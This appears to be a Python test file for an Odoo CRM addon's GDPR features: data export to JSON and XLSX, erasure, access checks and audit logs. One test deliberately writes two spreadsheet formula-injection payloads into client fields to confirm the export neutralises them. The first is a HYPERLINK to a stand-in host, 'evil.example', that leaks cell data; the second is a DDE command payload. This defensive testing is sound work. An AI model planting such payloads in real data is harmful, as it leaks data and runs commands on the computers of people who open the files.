import io
import json

import openpyxl

from odoo.exceptions import AccessError
from odoo.tests.common import tagged

from .common import SmartbookCrmCase
from .test_client_card import PIXEL


@tagged("post_install", "-at_install")
class TestGdpr(SmartbookCrmCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.client = cls.env["res.partner"].create(
            {
                "name": "Greta Lind",
                "smartbook_client": True,
                "smartbook_first_name": "Greta",
                "smartbook_last_name": "Lind",
                "phone": "+46701112233",
                "email": "greta@example.se",
                "city": "Uppsala",
                "smartbook_notes": "<p>Allergic to nuts</p>",
                "smartbook_consent_sms": True,
                "category_id": [(0, 0, {"name": "GDPR tag"})],
            }
        )
        cls.env["smartbook.client.photo"].create(
            {"partner_id": cls.client.id, "image_1920": PIXEL, "note": "Before"}
        )
        cls.client.message_post(body="Called about her appointment")

    def _download(self, action):
        attachment_id = int(action["url"].split("/web/content/")[1].split("?")[0])
        return self.env["ir.attachment"].browse(attachment_id).raw

    def test_export_json(self):
        action = self.client.with_user(self.user_manager).action_smartbook_gdpr_export()
        data = json.loads(self._download(action))
        self.assertEqual(data["client"][0]["phone"], "+46701112233")
        self.assertEqual(data["client"][0]["category_id"], "GDPR tag")
        self.assertEqual([(c["channel"], c["granted"]) for c in data["consents"]], [("sms", True)])
        self.assertEqual(data["photos"][0]["note"], "Before")
        log = self.env["smartbook.gdpr.log"].search([("partner_id", "=", self.client.id)])
        self.assertEqual((log.action, log.user_id), ("export", self.user_manager))

    def test_export_xlsx(self):
        action = self.client.with_user(self.user_manager).action_smartbook_gdpr_export_xlsx()
        workbook = openpyxl.load_workbook(io.BytesIO(self._download(action)))
        # Other addons add their sections (smartbook_booking: the bookings).
        self.assertEqual(workbook.sheetnames[:3], ["client", "consents", "photos"])
        header = [cell.value for cell in workbook["client"][1]]
        values = dict(zip(header, [cell.value for cell in workbook["client"][2]], strict=True))
        self.assertEqual(values["email"], "greta@example.se")

    def test_export_xlsx_writes_no_formula(self):
        formula = '=HYPERLINK("http://evil.example/?"&B2,"Click")'
        self.client.write({"name": formula, "city": "+cmd|' /C calc'!A0"})
        action = self.client.with_user(self.user_manager).action_smartbook_gdpr_export_xlsx()
        workbook = openpyxl.load_workbook(io.BytesIO(self._download(action)))
        header = [cell.value for cell in workbook["client"][1]]
        cells = dict(zip(header, workbook["client"][2], strict=True))
        self.assertEqual((cells["name"].value, cells["name"].data_type), (formula, "s"))
        self.assertEqual(cells["city"].data_type, "s")
        formulas = [
            cell.coordinate
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
        self.assertFalse(formulas)

    def test_export_holds_everything_erasure_blanks(self):
        Partner = self.env["res.partner"]
        self.assertLessEqual(
            set(Partner._smartbook_erased_fields()), set(Partner._smartbook_personal_fields())
        )
        self.client.telegram_chat_id = "424242"
        action = self.client.with_user(self.user_manager).action_smartbook_gdpr_export()
        client = json.loads(self._download(action))["client"][0]
        self.assertEqual(client["telegram_chat_id"], "424242")
        self.assertEqual(client["smartbook_notes"], "Allergic to nuts")
        for name in Partner._smartbook_erased_fields():
            self.assertIn(name, client)
        self.client.with_user(self.user_manager).action_smartbook_gdpr_erase()
        self.assertFalse(self.client.telegram_chat_id)
        self.assertFalse(self.client.smartbook_consent_sms)

    def test_employee_cannot_handle_personal_data(self):
        client = self.client_of_employee.with_user(self.user_employee)
        with self.assertRaises(AccessError):
            client.action_smartbook_gdpr_export()
        with self.assertRaises(AccessError):
            client.action_smartbook_gdpr_erase()

    def test_erase(self):
        self.client.with_user(self.user_manager).action_smartbook_gdpr_erase()
        client = self.client.with_context(active_test=False)
        self.assertTrue(client.smartbook_erased)
        self.assertFalse(client.active)
        self.assertEqual(client.name, f"Erased client #{client.id}")
        for name in ("phone", "email", "city", "smartbook_notes", "smartbook_first_name", "category_id"):
            self.assertFalse(client[name], name)
        self.assertFalse(client.smartbook_photo_ids)
        messages = self.env["mail.message"].search(
            [("model", "=", "res.partner"), ("res_id", "=", client.id)]
        )
        self.assertFalse(messages.filtered(lambda m: "appointment" in (m.body or "")))
        log = self.env["smartbook.gdpr.log"].search(
            [("partner_id", "=", client.id), ("action", "=", "erase")]
        )
        self.assertEqual(log.user_id, self.user_manager)
        # Nothing of the person is left to find.
        found = (
            self.env["res.partner"]
            .with_context(active_test=False)
            .search(["|", ("name", "ilike", "Greta"), ("phone", "=", "+46701112233")])
        )
        self.assertFalse(found)

    def test_exported_file_is_not_left_behind_after_erasure(self):
        self.client.with_user(self.user_manager).action_smartbook_gdpr_export()
        self.client.with_user(self.user_manager).action_smartbook_gdpr_erase()
        attachments = self.env["ir.attachment"].search(
            [("res_model", "=", "res.partner"), ("res_id", "=", self.client.id)]
        )
        self.assertFalse(attachments)
